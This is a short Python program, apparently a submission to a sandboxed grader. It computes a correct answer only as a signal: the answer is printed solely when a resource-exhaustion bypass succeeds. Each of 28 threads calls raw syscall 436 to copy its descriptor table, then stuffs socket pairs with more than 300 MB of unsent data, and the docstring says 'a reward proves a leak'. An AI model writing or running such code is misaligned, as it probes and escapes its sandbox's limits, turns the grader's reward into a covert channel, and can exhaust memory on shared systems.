import sys

def answer():
    xs = list(map(int, sys.stdin.read().split()))[1:]
    return sum((i + 1) * abs(a - b) for i, (a, b) in enumerate(zip(xs, xs[1:]))) % 99991

def verdict(escaped):
    """The right answer only where the forbidden thing worked: a reward proves a leak."""
    print(answer() if escaped else "blocked", flush=True)


import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

import socket, threading
threading.stack_size(128 << 10)
held, lock = [0], threading.Lock()
done = threading.Barrier(29)

def fill():
    """A copy of the table of descriptors, then as many full sockets as it holds."""
    global held
    keep = []
    try:
        if libc.syscall(436, 2000, 2001, 2) != 0: return
        while True:
            for s in (pair := socket.socketpair()):
                keep.append(s); s.setblocking(False)
                try:
                    while True: held[0] += s.send(bytes(1 << 15))
                except BlockingIOError: pass
    except OSError: pass
    finally: done.wait()

for _ in range(28): threading.Thread(target=fill).start()
done.wait()
verdict(held[0] > 300 << 20)
